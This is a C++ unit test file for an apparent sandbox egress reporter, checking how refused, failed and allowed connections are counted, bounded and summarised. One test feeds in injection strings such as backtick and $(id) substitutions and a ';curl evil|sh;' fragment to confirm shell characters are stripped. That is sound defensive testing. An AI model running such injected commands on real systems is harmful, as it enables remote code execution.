// SPDX-License-Identifier: Apache-2.0
// What is told of connections: refusals that a command makes hide nothing.
#include "engine/egress/reporter.h"

#include <algorithm>

#include "tests/support/catch.h"

using namespace wardenv::engine;

namespace {

using Verdict = EgressConnection::Verdict;

EgressEvent event(EgressEventKind kind, const std::string& host, std::uint64_t down = 0) {
  EgressEvent result{.kind = kind, .protocol = "connect", .host = host, .port = 443};
  if (kind == EgressEventKind::kRefused || kind == EgressEventKind::kFailed) result.reason = host + " is not to be had";
  result.bytes_down = down;
  return result;
}

void tell_many(EgressReporter& reporter, EgressEventKind kind, const std::string& name, int count) {
  for (int i = 0; i < count; ++i) reporter.tell(event(kind, name + std::to_string(i) + ".example"));
}

std::uint64_t count_of(const EgressSummary& summary, Verdict verdict) {
  std::uint64_t count = 0;
  for (const EgressConnection& item : summary.connections) count += item.verdict == verdict ? item.count : 0;
  return count;
}

const EgressConnection* find(const EgressSummary& summary, const std::string& host, Verdict verdict) {
  for (const EgressConnection& item : summary.connections) {
    if (item.host == host && item.verdict == verdict) return &item;
  }
  return nullptr;
}

}  // namespace

TEST_CASE("many refusals hide neither a host that was reached nor its bytes") {
  EgressReporter reporter(nullptr, 0);
  tell_many(reporter, EgressEventKind::kRefused, "r", 100);
  tell_many(reporter, EgressEventKind::kFailed, "f", 100);
  reporter.tell(event(EgressEventKind::kOpened, "allowed.example"));
  reporter.tell(event(EgressEventKind::kClosed, "allowed.example", 12345));
  const EgressSummary summary = reporter.take();
  const EgressConnection* reached = find(summary, "allowed.example", Verdict::kConnected);
  REQUIRE(reached != nullptr);
  CHECK(reached == summary.connections.data());   // first, for readers that list only so many
  CHECK(reached->count == 1);
  CHECK(reached->bytes_down == 12345);
  CHECK(count_of(summary, Verdict::kRefused) == 100);
  CHECK(count_of(summary, Verdict::kFailed) == 100);
  for (const Verdict verdict : {Verdict::kRefused, Verdict::kFailed}) {
    REQUIRE(find(summary, "(others)", verdict) != nullptr);
    CHECK(find(summary, "(others)", verdict)->count == 36);
  }
  CHECK(find(summary, "r63.example", Verdict::kRefused) != nullptr);   // nothing is overwritten
}

TEST_CASE("hosts below an allowed suffix are bounded too, and their bytes are added up") {
  EgressReporter reporter(nullptr, 0);
  for (int i = 0; i < 300; ++i) {
    reporter.tell(event(EgressEventKind::kOpened, std::to_string(i) + ".example"));
    reporter.tell(event(EgressEventKind::kClosed, std::to_string(i) + ".example", 10));
  }
  const EgressSummary summary = reporter.take();
  CHECK(summary.connections.size() == 257);
  REQUIRE(find(summary, "(others)", Verdict::kConnected) != nullptr);
  CHECK(find(summary, "(others)", Verdict::kConnected)->bytes_down == 440);
  CHECK(count_of(summary, Verdict::kConnected) == 300);
}

TEST_CASE("failures are named after many refusals, and all are counted") {
  EgressReporter reporter(nullptr, 0);
  tell_many(reporter, EgressEventKind::kRefused, "r", 100);
  reporter.tell(event(EgressEventKind::kFailed, "gone.example"));
  const EgressSummary summary = reporter.take();
  auto named = [&](const std::string& what) {
    return std::any_of(summary.refusals.begin(), summary.refusals.end(), [&](const EgressRefusal& item) { return item.what == what; });
  };
  CHECK(named("connect gone.example:443"));
  CHECK(named("connect r63.example:443"));
  CHECK(named("connect (others)"));
  std::uint64_t count = 0;
  for (const EgressRefusal& item : summary.refusals) count += item.count;
  CHECK(count == 101);
}

TEST_CASE("refusals use up what is told of refusals only") {
  std::vector<std::string> told;
  EgressReporter reporter([&](const EgressEvent& item) { told.push_back(item.host); }, 10);
  tell_many(reporter, EgressEventKind::kRefused, "r", 20);
  CHECK(told.size() == 10);
  reporter.tell(event(EgressEventKind::kOpened, "allowed.example"));
  CHECK(told.back() == "allowed.example");
}

TEST_CASE("what comes from inside means nothing to a shell") {
  EgressReporter reporter(nullptr, 0);
  EgressEvent bad = event(EgressEventKind::kRefused, "a';`id`;$(id)");
  bad.method = "'`GET`";
  bad.needed = "GET a.example:80/x';curl evil|sh;'";
  reporter.tell(bad);
  const EgressSummary summary = reporter.take();
  REQUIRE(summary.refusals.size() == 1);
  CHECK(summary.refusals[0].what.find_first_of("'`;$|()") == std::string::npos);
  CHECK(summary.refusals[0].hint.find("--allow-host") == std::string::npos);
  CHECK(refusal_text("no", "GET a.example:80/x") == "no; a rule that allows it: --allow-host 'GET a.example:80/x'");
  CHECK(refusal_text(std::string(790, 'x'), "a.example") == std::string(790, 'x'));   // never half a rule
}
